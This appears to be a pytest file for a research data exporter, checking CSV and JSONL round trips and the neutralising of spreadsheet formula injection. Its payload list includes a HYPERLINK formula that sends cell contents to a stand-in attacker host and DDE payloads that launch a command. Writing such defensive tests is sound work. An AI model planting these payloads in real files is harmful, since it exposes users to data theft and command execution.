"""CSV and JSONL of the research export survive a round trip with awkward texts."""

from __future__ import annotations

import codecs
import csv
import io
import json

from hypothesis import given, settings
from hypothesis import strategies as st

from reports.research import write_csv, write_jsonl
from reports.research.tabular import csv_columns, record_json
from reports.spreadsheet_safety import FORMULA_STARTS, spreadsheet_safe

from .factories import make_record, tricky_records


def read_csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_bytes(records, theme_keys=None) -> bytes:
    buffer = io.BytesIO()
    write_csv(records, buffer, theme_keys)
    return buffer.getvalue()


def jsonl_bytes(records) -> bytes:
    buffer = io.BytesIO()
    write_jsonl(records, buffer)
    return buffer.getvalue()


def test_csv_starts_with_a_bom_and_has_the_documented_header():
    data = csv_bytes(tricky_records(), ["eenzaamheid", "armoede", "gezondheid"])
    assert data.startswith(codecs.BOM_UTF8)
    header = data.decode("utf-8-sig").split("\r\n", 1)[0]
    assert header.split(",") == csv_columns(["eenzaamheid", "armoede", "gezondheid"])
    assert header == (
        "id,text,period,area,age_band,language,channel,themes,outcome,"
        "theme_eenzaamheid,theme_armoede,theme_gezondheid,"
        "outcome_eenzaamheid,outcome_armoede,outcome_gezondheid"
    )


def test_csv_round_trip_keeps_emoji_rtl_crlf_quotes_and_semicolons():
    records = tricky_records()
    rows = read_csv_rows(csv_bytes(records, ["eenzaamheid", "armoede", "gezondheid"]))

    assert len(rows) == len(records)
    for row, record in zip(rows, records, strict=True):
        assert row["id"] == record.export_id
        assert row["text"] == spreadsheet_safe(record.text)
        assert (row["period"], row["area"], row["age_band"]) == ("2026-Q1", "West", "30-44")
        assert row["themes"].split(";") == (list(record.theme_keys) or [""])
        for key in ("eenzaamheid", "armoede", "gezondheid"):
            assert row[f"theme_{key}"] == ("1" if key in record.theme_keys else "0")


INJECTION_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)


def test_csv_cells_that_a_spreadsheet_would_run_come_out_as_inert_text():
    records = [make_record(i, payload) for i, payload in enumerate(INJECTION_PAYLOADS, 1)]
    rows = read_csv_rows(csv_bytes(records))
    assert [row["text"] for row in rows] == ["'" + payload for payload in INJECTION_PAYLOADS]
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value


def test_spreadsheet_safe_leaves_ordinary_text_and_numbers_alone():
    assert spreadsheet_safe("Ik kom graag: 3 + 4 = 7") == "Ik kom graag: 3 + 4 = 7"
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None


def test_csv_theme_columns_default_to_the_themes_present_sorted():
    records = [make_record(1, "a", (("zorg", 0.5, "model"),)), make_record(2, "b")]
    header = read_csv_rows(csv_bytes(records))[0].keys()
    assert [name for name in header if name.startswith("theme_")] == ["theme_zorg"]


def test_csv_theme_with_model_and_human_label_is_listed_once():
    rows = read_csv_rows(csv_bytes(tricky_records()))
    fourth = rows[3]  # gezondheid by the model and by a person
    assert fourth["themes"] == "gezondheid"


def test_jsonl_round_trip_keeps_text_and_theme_details():
    records = tricky_records()
    data = jsonl_bytes(records)
    lines = data.decode("utf-8").split("\n")
    assert lines[-1] == ""
    parsed = [json.loads(line) for line in lines[:-1]]
    assert parsed == [record_json(record) for record in records]
    assert parsed[1]["themes"] == [
        {"key": "eenzaamheid", "score": None, "source": "human"},
        {"key": "armoede", "score": 0.6, "source": "model"},
    ]
    assert parsed[0]["period_start"] == "2026-01-01"
    assert "👩🏽‍🦱" in data.decode("utf-8")  # not \u-escaped


def test_jsonl_lines_stay_whole_for_readers_that_split_on_unicode_line_breaks():
    records = [make_record(1, "een\u2028twee\u2029drie\x85vier\x1cvijf"), make_record(2, "x")]
    text = jsonl_bytes(records).decode("utf-8")
    assert len(text.splitlines()) == 2
    assert json.loads(text.splitlines()[0])["text"] == records[0].text


@settings(max_examples=200, deadline=None)
@given(texts=st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_survives_csv_and_jsonl(texts):
    records = [make_record(number, text) for number, text in enumerate(texts, start=1)]
    expected = [spreadsheet_safe(text) for text in texts]
    assert [row["text"] for row in read_csv_rows(csv_bytes(records))] == expected
    lines = jsonl_bytes(records).decode("utf-8").splitlines()
    assert [json.loads(line)["text"] for line in lines] == texts
